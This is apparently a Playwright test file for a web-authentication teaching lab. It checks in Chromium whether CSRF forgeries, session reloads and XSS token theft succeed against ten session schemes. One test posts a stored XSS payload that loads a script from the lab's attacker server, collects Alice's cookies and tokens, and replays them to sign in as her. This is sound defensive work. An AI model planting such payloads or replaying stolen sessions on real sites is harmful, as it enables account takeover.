// The lab in Chromium: its page, and the attacks that need a browser, compared with what the lab's own model of one says.

import assert from "node:assert/strict";
import { mkdir } from "node:fs/promises";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";
import { CHROMIUM, FLAGS, PHONE } from "../harness.js";
import { Lab } from "../lab.js";

const SCREENSHOTS = fileURLToPath(new URL("../screenshots/", import.meta.url));
const PASSWORDS = {
  alice: "violet lanterns over a quiet harbour",
  mallory: "seven wooden bridges in late autumn",
};
const SCHEMES = [
  "plain-cookie",
  "memory-session",
  "session-db",
  "jwt-local-storage",
  "jwt-cookie",
  "pair-local-storage",
  "refresh-cookie",
  "both-cookies",
  "csrf-token",
  "bitjang",
];

async function within(story) {
  const lab = await Lab.open();
  const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS });
  try {
    await story({ lab, browser });
  } finally {
    await browser.close();
    await lab.close();
  }
}

/** A browser in which somebody has signed in at the first server. */
async function signedIn(browser, server, name) {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(server);
  await page.fill("[name=name]", name);
  await page.fill("[name=password]", PASSWORDS[name]);
  await page.click("#sign-in button");
  await page.waitForFunction((text) => document.querySelector("#who").textContent === text, `You are ${name}`);
  return page;
}

/** Writes a post as the page would, and answers its number. */
async function write(page, text) {
  return page.evaluate(async (text) => {
    const kept = localStorage.getItem("access");
    const ask = async (method, path, headers) => (await fetch(path, { method, headers })).json().catch(() => ({}));
    const { csrf_token: csrf } = await ask("GET", "/csrf");
    const proven = csrf ? { "x-csrf-token": csrf } : {};
    const token = kept ?? (document.body.dataset.access === "memory" ? (await ask("POST", "/refresh", proven)).access_token : null);
    const bearer = token ? { authorization: `Bearer ${token}` } : {};
    const answer = await fetch("/posts", { method: "POST", body: text, headers: { ...bearer, ...proven } });
    return answer.json();
  }, text);
}

const posts = async (server) => (await fetch(`${server}/posts`)).json();

/** Green, red: what became of Alice's post after she visited the attacker's page. */
async function forged(browser, { servers: [server], attacker }, kind) {
  const page = await signedIn(browser, server, "alice");
  const post = await write(page, "Mine.");
  assert.ok(String(post) in (await posts(server)), "the post was written");
  const sent = page.waitForResponse((response) => response.url().startsWith(`${server}/posts/${post}/delete`));
  await page.goto(`${attacker}/${kind}?target=${server}/posts/${post}/delete`, { waitUntil: "commit" }).catch(() => {});
  await sent;
  await page.context().close();
  return String(post) in (await posts(server)) ? "green" : "red";
}

/** Whether somebody with what the script sent away is Alice. */
async function exfiltrated(browser, { servers: [server], attacker }) {
  const mallory = await signedIn(browser, server, "mallory");
  const post = await write(mallory, `<script src=${attacker}/steal.js></script>`);
  await mallory.context().close();
  const before = (await (await fetch(`${attacker}/loot`)).json()).length;
  const alice = await signedIn(browser, server, "alice");
  const sent = alice.waitForResponse((response) => response.url() === `${attacker}/loot`);
  await alice.reload();
  await sent;
  const loot = JSON.parse((await (await fetch(`${attacker}/loot`)).json()).at(-1));
  assert.ok(before >= 0 && post > 0);
  await alice.context().close();
  const token = loot.storage.access ?? loot.answers.access_token;
  const headers = { ...(loot.cookie && { cookie: loot.cookie }), ...(token && { authorization: `Bearer ${token}` }) };
  const answer = await fetch(`${server}/me`, { headers });
  return answer.ok && (await answer.json()).name === "alice" ? "stolen" : "green";
}

test("Chromium and the lab's model of a browser agree", { timeout: 300_000 }, () =>
  within(async ({ lab, browser }) => {
    for (const scheme of SCHEMES) {
      const where = await lab.ask(`/live/${scheme}/json`);
      const model = async (attack) => (await lab.ask(`/cell/${scheme}/${attack}/json`)).colour;
      for (const kind of ["form", "image", "fetch"]) {
        assert.equal(await forged(browser, where, kind), await model(`csrf-${kind}`), `${scheme}, CSRF by ${kind}`);
      }
      const page = await signedIn(browser, where.servers[0], "alice");
      await page.reload();
      await page.waitForFunction(() => document.querySelector("#who").textContent !== "…");
      const known = (await page.textContent("#who")) === "You are alice" ? "green" : "red";
      assert.equal(known, await model("reload"), `${scheme}, reload`);
      await page.context().close();
      const stolen = (await model("xss-exfiltrate")) === "green" ? "green" : "stolen";
      assert.equal(await exfiltrated(browser, where), stolen, `${scheme}, XSS`);
    }
  }),
);

test("the lab's page runs a cell and shows it, in both languages, also on a phone", { timeout: 120_000 }, () =>
  within(async ({ lab, browser }) => {
    await mkdir(SCREENSHOTS, { recursive: true });
    const complaints = [];
    const open = async (options, shot, path) => {
      const page = await (await browser.newContext(options)).newPage();
      page.on("pageerror", (error) => complaints.push(String(error)));
      page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
      await page.goto(lab.url + path);
      return { page, shoot: () => page.screenshot({ path: `${SCREENSHOTS}lab-${shot}.png`, fullPage: true }) };
    };
    const cell = await open({ javaScriptEnabled: false }, "cell", "/cell/refresh-cookie/two-tabs");
    await cell.page.click("main button");
    await cell.page.waitForSelector(".verdict.red");
    assert.ok((await cell.page.locator("svg .arrow").count()) > 3);
    assert.equal(await cell.page.locator("svg .arrow").count(), await cell.page.locator("#told > li").count());
    await cell.shoot();
    const matrix = await open({}, "matrix", "/");
    await matrix.page.click("main button");
    await matrix.page.waitForFunction(() => document.querySelectorAll("td.green, td.amber, td.red").length === 220, null, { timeout: 110_000 });
    await matrix.page.waitForSelector("form[action='/run']");
    await matrix.shoot();
    for (const [options, shot, path] of [
      [PHONE, "matrix-phone-ko", "/?lang=ko"],
      [{ ...PHONE, colorScheme: "dark" }, "cell-phone-dark-ko", "/cell/bitjang/thief-first?lang=ko"],
    ]) {
      const { page, shoot } = await open(options, shot, path);
      assert.equal(await page.locator("html").getAttribute("lang"), "ko");
      assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `${shot} is not too wide`);
      await shoot();
    }
    assert.deepEqual(complaints, []);
  }),
);
